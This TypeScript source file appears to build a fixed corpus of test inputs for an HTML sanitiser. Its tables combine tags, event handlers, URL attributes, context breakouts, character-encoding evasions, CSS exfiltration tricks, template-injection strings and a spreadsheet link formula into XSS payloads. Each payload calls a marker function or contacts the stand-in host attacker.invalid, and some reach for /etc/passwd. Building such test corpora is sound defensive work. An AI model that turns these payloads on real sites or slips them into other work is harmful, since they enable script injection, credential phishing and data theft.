/**
 * Words that would be markup or code wherever words are taken for that: tags × attributes × encodings, ours alone. Each calls
 * `hurt`, asks for an address of `attacker.invalid`, or leaves an element that bears `data-hurt`.
 */
export interface Payload {
  readonly id: string;
  readonly kind: string;
  readonly text: string;
}

const away = 'https://attacker.invalid/';

/** Tags on which a handler can fire by itself or by a touch, with what makes it fire. */
const handlers: readonly (readonly [tag: string, more: string, on: readonly string[]])[] = [
  ['img', 'src=x:', ['onerror', 'onload', 'onpointerenter', 'onclick']],
  ['svg', '', ['onload', 'onclick', 'onmouseover', 'onfocusin']],
  ['video', 'src=x: controls', ['onerror', 'onloadstart', 'onpointerover']],
  ['audio', 'src=x: controls', ['onerror', 'onloadstart', 'oncanplay']],
  ['iframe', '', ['onload', 'onfocus']],
  ['object', 'data=x:', ['onerror', 'onload']],
  ['embed', 'src=x:', ['onerror', 'onload']],
  ['input', 'autofocus', ['onfocus', 'onblur', 'oninput', 'onbeforeinput']],
  ['textarea', 'autofocus', ['onfocus', 'onselect', 'onscroll']],
  ['select', 'autofocus', ['onfocus', 'onchange', 'onpointerdown']],
  ['button', 'autofocus', ['onfocus', 'onclick', 'onkeydown']],
  ['details', 'open', ['ontoggle', 'onclick']],
  ['dialog', 'open', ['onclose', 'onfocusin']],
  ['a', `href=${away}a tabindex=0`, ['onclick', 'onfocus', 'onmouseenter', 'onauxclick']],
  ['div', 'contenteditable tabindex=0', ['onfocus', 'onpaste', 'oncopy', 'onwheel', 'onpointermove']],
  ['p', 'style="animation: spin 1s"', ['onanimationstart', 'ontransitionend', 'oncontextmenu']],
  ['body', '', ['onload', 'onpageshow', 'onhashchange', 'onmessage', 'onresize']],
  ['marquee', '', ['onstart', 'onbounce', 'onfinish']],
  ['form', '', ['onsubmit', 'onreset', 'onformdata']],
  ['link', 'rel=stylesheet href=x:', ['onerror', 'onload']],
  ['style', '', ['onload', 'onerror']],
  ['script', 'src=x:', ['onerror', 'onload']],
  ['math', 'tabindex=0', ['onfocus', 'onclick']],
  ['table', 'background=x:', ['onscroll', 'ondragstart']],
  ['track', 'src=x: default', ['onerror', 'oncuechange']],
  ['xss', 'tabindex=0 autofocus', ['onfocus', 'onclick', 'onbeforecopy']],
];

/** Attributes that hold an address. */
const addresses: readonly (readonly [before: string, after: string])[] = [
  ['<a href="', '">press</a>'],
  ['<a ping="', '" href="#">press</a>'],
  ['<a target=_top href="', '">press</a>'],
  ['<area href="', '">'],
  ['<img src="', '">'],
  ['<img srcset="', ' 2x">'],
  ['<image href="', '">'],
  ['<picture><source srcset="', '"><img></picture>'],
  ['<iframe src="', '"></iframe>'],
  ['<iframe srcdoc="<img src=', '>"></iframe>'],
  ['<frameset><frame src="', '"></frameset>'],
  ['<object data="', '"></object>'],
  ['<embed src="', '">'],
  ['<video poster="', '"></video>'],
  ['<video src="', '"></video>'],
  ['<audio src="', '"></audio>'],
  ['<link rel=stylesheet href="', '">'],
  ['<link rel=prefetch href="', '">'],
  ['<link rel=dns-prefetch href="', '">'],
  ['<link rel=manifest href="', '">'],
  ['<base href="', '">'],
  ['<form action="', '"><button autofocus>send</button></form>'],
  ['<button form=f formaction="', '">send</button>'],
  ['<input type=image src="', '">'],
  ['<meta http-equiv=refresh content="0;url=', '">'],
  ['<body background="', '">'],
  ['<script src="', '"></script>'],
  ['<svg><use href="', '"/></svg>'],
  ['<svg><a xlink:href="', '"><text y=20>press</text></a></svg>'],
  ['<math href="', '"><mtext>press</mtext></math>'],
  ['<p style="background:url(', ')">words</p>'],
];
const targets = (id: string): readonly string[] => [
  `${away}${id}`,
  `//attacker.invalid/${id}`,
  `javascript:hurt('${id}')`,
  `JaVa\tScript&colon;hurt('${id}')`,
  `data:text/html,<script>parent.hurt('${id}')</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hurt("${id}")'/>`,
  'file:///etc/passwd',
];

/** Tags that a sanitiser must know, and places out of which words break. */
const contexts: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['">', ''],
  ["'>", ''],
  ['</title>', ''],
  ['</textarea>', ''],
  ['</style>', ''],
  ['</script>', ''],
  ['</pre>', ''],
  ['</option></select>', ''],
  ['-->', ''],
  [']]>', ''],
  ['<noscript><p title="</noscript>', '">'],
  ['<xmp><p title="</xmp>', '">'],
  ['<noembed><p title="</noembed>', '">'],
  ['<svg><style>', '</style></svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math><mtext><table><mglyph><style>', '</style></mglyph></table></mtext></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<template>', '</template>'],
  ['<form><math><mtext></form><form><mglyph><style></math>', ''],
  ['<select><template>', '</template></select>'],
  ['<table><tr><td>', '</td></tr></table>'],
];
const cores = (id: string): readonly string[] => [
  `<img data-hurt="${id}" src="${away}${id}" onerror="hurt('${id}')">`,
  `<script data-hurt="${id}">hurt('${id}')</script>`,
  `<svg data-hurt="${id}" onload="hurt('${id}')"><animate attributeName=href values="javascript:hurt('${id}')"/></svg>`,
];

/** Other ways to write the same letters. */
const encodings: readonly (readonly [name: string, encode: (text: string) => string])[] = [
  ['decimal', (text) => text.replace(/./gsu, (letter) => `&#${letter.codePointAt(0)};`)],
  ['hexadecimal', (text) => text.replace(/./gsu, (letter) => `&#x${letter.codePointAt(0)?.toString(16)};`)],
  ['padded', (text) => text.replace(/[<>"]/g, (letter) => `&#000000${letter.charCodeAt(0)}`)],
  ['named', (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')],
  ['named twice', (text) => text.replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;')],
  ['percent', (text) => encodeURIComponent(text)],
  ['percent twice', (text) => encodeURIComponent(encodeURIComponent(text))],
  ['escapes', (text) => text.replace(/[<>"']/g, (each) => `\\u00${each.charCodeAt(0).toString(16)}`)],
  ['css escapes', (text) => text.replace(/[<>"']/g, (each) => `\\${each.charCodeAt(0).toString(16)} `)],
  ['capitals', (text) => text.toUpperCase()],
  ['mixed case', (text) => text.replace(/[a-z]/g, (l, at: number) => (at % 2 ? l : l.toUpperCase()))],
  ['slashes', (text) => text.replace(/ /g, '/')],
  ['tabs', (text) => text.replace(/ /g, '\t')],
  ['line ends', (text) => text.replace(/ /g, '\n')],
  ['form feeds', (text) => text.replace(/ /g, '\f')],
  ['NUL', (text) => text.replace(/</g, '<\0')],
  ['no quotes', (text) => text.replace(/"/g, '')],
  ['grave accents', (text) => text.replace(/["']/g, '`')],
  ['full width', (text) => text.replace(/</g, '＜').replace(/>/g, '＞')],
  ['UTF-7', (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-')],
  ['overridden direction', (text) => `\u202e${text}\u202c`],
  ['no width', (text) => text.replace(/(?<=<)/g, '\u200b')],
  ['half a surrogate', (text) => `\ud800${text}`],
  ['unclosed', (text) => text.replace(/>/g, '')],
  ['doubled', (text) => text.replace(/<script/g, '<scr<script>ipt').replace(/<img/g, '<im<img>g')],
  ['in a comment', (text) => `<!--><${'!'}-- ${text} -->`],
  ['in a declaration', (text) => `<![CDATA[${text}]]>${text}`],
];

const styles = (id: string): readonly string[] => [
  `<style data-hurt="${id}">@import "${away}${id}";</style>`,
  `<style data-hurt="${id}">body{background:url(${away}${id})!important}</style>`,
  `<style data-hurt="${id}">@font-face{font-family:x;src:url(${away}${id})}*{font-family:x}</style>`,
  `<style data-hurt="${id}">input[value^=a]{background:url(${away}${id})}</style>`,
  `<div data-hurt="${id}" style="position:fixed;inset:0;z-index:9;background:#fff">Your password</div>`,
  `<div data-hurt="${id}" style="background-image:image-set('${away}${id}' 1x)">x</div>`,
  `<div data-hurt="${id}" style="width:expression(hurt('${id}'))">x</div>`,
  `<p data-hurt="${id}" style="list-style:url(${away}${id});display:list-item">x</p>`,
  `<p data-hurt="${id}" style="cursor:url(${away}${id}),auto;content:url(${away}${id})">x</p>`,
];

/** What Markdown, templates and other readers of text would make something of. */
const notations = (id: string): readonly string[] => [
  `[press](javascript:hurt('${id}'))`,
  `[press](${away}${id})`,
  `[press](<javascript:hurt('${id}')>)`,
  `[press](&#106;avascript:hurt('${id}'))`,
  `![seen](${away}${id}.png)`,
  `![seen](x: "onerror=hurt('${id}')")`,
  `[a]: javascript:hurt('${id}')\n[press][a]`,
  `<javascript:hurt('${id}')>`,
  `<${away}${id}>`,
  `${away}${id}`,
  `[a](carrel:../../etc/passwd?${id})`,
  `[a](carrel:x"onclick="hurt('${id}'))`,
  `{{constructor.constructor("hurt('${id}')")()}}`,
  `\${hurt('${id}')}`,
  `<%= hurt('${id}') %>`,
  `#{hurt('${id}')}`,
  `__proto__[hurt]=${id}`,
  `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml" data-hurt="${id}">hurt('${id}')</x:script>`,
  `<?xml-stylesheet href="${away}${id}"?><!DOCTYPE x SYSTEM "${away}${id}"><x data-hurt="${id}"/>`,
  `=HYPERLINK("${away}${id}")`,
];

/** All of them, in the same order with the same ids in every run. */
export function payloads(): Payload[] {
  const made: Payload[] = [];
  const add = (kind: string, make: (id: string) => string) => {
    const id = `h${made.length}`;
    made.push({ id, kind, text: make(id) });
  };
  for (const [tag, more, names] of handlers)
    for (const on of names)
      add('handler', (id) => `<${tag} data-hurt="${id}" ${more} ${on}="hurt('${id}')">words</${tag}>`);
  for (const [before, after] of addresses)
    for (let at = 0; at < targets('').length; at += 1)
      add(
        'address',
        (id) => `${before.replace(/<(\w+)/, `<$1 data-hurt="${id}"`)}${targets(id)[at]}${after}`,
      );
  for (const [before, after] of contexts)
    for (let at = 0; at < cores('').length; at += 1)
      add('context', (id) => `${before}${cores(id)[at]}${after}`);
  for (const [name, encode] of encodings)
    for (let at = 0; at < cores('').length; at += 1)
      for (const [before, after] of contexts.slice(0, 4))
        add(name, (id) => encode(`${before}${cores(id)[at]}${after}`));
  for (let at = 0; at < styles('').length; at += 1) add('style', (id) => styles(id)[at] ?? '');
  for (let at = 0; at < notations('').length; at += 1) add('notation', (id) => notations(id)[at] ?? '');
  return made;
}
